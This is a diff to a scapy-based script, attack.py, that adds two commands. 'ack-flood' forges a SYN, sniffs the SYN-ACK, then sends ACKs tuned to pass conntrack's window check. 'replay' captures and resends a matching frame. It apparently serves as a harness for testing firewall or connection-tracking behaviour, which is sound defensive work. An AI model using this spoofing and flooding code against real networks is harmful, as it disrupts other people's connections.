@@ -7,6 +7,17 @@ usage:
       one forged packet (any source address) out of IFACE to DSTMAC
   attack.py rst-flood IFACE DSTMAC SRC SPORT DST DPORT COUNT
       COUNT forged RSTs (random sequence numbers, half with a random ACK)
+  attack.py ack-flood IFACE DSTMAC SRC SPORT DST DPORT COUNT
+      a forged SYN from SRC (an address nobody on the wire answers for),
+      then COUNT forged ACKs for the half-open connection, each with a
+      wrong acknowledgement number: the attacker sees the SYN-ACK on IFACE
+      (an on-path one; blind ones know less) and spreads the numbers over
+      the 60,000 below the right one, which conntrack's window check
+      accepts (above it, conntrack refuses them itself); prints "flooded N"
+  attack.py replay IFACE FILTER COUNT
+      capture the first frame matching the pcap FILTER on IFACE (10 s at
+      most; "listening" once started), then send it again COUNT times;
+      prints "replayed N"
   attack.py udp-listen PORT SECONDS [DST DPORT]
       print "got ADDR PORT" per datagram received on PORT (IPv4 and IPv6)
       for SECONDS or until the file $UDP_LISTEN_STOP exists, then "done
@@ -73,6 +84,48 @@ def rst_flood(iface, mac, src, sport, dst, dport, count):
         pkts.append(base / t)
     sendp(pkts, iface=iface, verbose=0)
     print("sent %d" % len(pkts))
+
+
+def ack_flood(iface, mac, src, sport, dst, dport, count):
+    from scapy.layers.inet import TCP
+    from scapy.layers.l2 import Ether
+    from scapy.sendrecv import AsyncSniffer, sendp
+
+    sport, dport = int(sport), int(dport)
+    base = Ether(dst=mac) / l3(src, dst)
+    sn = AsyncSniffer(iface=iface, count=1, timeout=5,
+                      lfilter=lambda p: TCP in p and p[TCP].flags == "SA"
+                      and p[TCP].dport == sport)
+    sn.start()
+    time.sleep(0.3)
+    sendp(base / TCP(sport=sport, dport=dport, flags="S", seq=1000),
+          iface=iface, verbose=0)
+    sn.join()
+    if not sn.results:
+        sys.exit("no SYN-ACK")
+    right = (sn.results[0][TCP].seq + 1) & 0xffffffff
+    pkts = []
+    step = max(1, 60000 // int(count))
+    for i in range(1, int(count) + 1):
+        wrong = (right - i * step) & 0xffffffff
+        pkts.append(base / TCP(sport=sport, dport=dport, flags="A",
+                               seq=1001, ack=wrong))
+    sendp(pkts, iface=iface, verbose=0)
+    print("flooded %d" % len(pkts))
+
+
+def replay(iface, flt, count):
+    from scapy.sendrecv import AsyncSniffer, sendp
+
+    sn = AsyncSniffer(iface=iface, filter=flt, count=1, timeout=10)
+    sn.start()
+    time.sleep(0.3)
+    print("listening", flush=True)
+    sn.join()
+    if not sn.results:
+        sys.exit("nothing captured")
+    sendp([sn.results[0]] * int(count), iface=iface, verbose=0)
+    print("replayed %d" % int(count), flush=True)
 
 
 def udp_listen(port, seconds, dst=None, dport=None):
@@ -152,7 +205,8 @@ def main():
     if len(sys.argv) < 2:
         sys.exit(__doc__)
     cmd, args = sys.argv[1], sys.argv[2:]
-    fn = {"spoof": spoof, "rst-flood": rst_flood, "udp-listen": udp_listen,
+    fn = {"spoof": spoof, "rst-flood": rst_flood, "ack-flood": ack_flood,
+          "replay": replay, "udp-listen": udp_listen,
           "udp-send": udp_send, "bulk-server": bulk_server,
           "bulk-client": bulk_client}.get(cmd)
     if not fn:
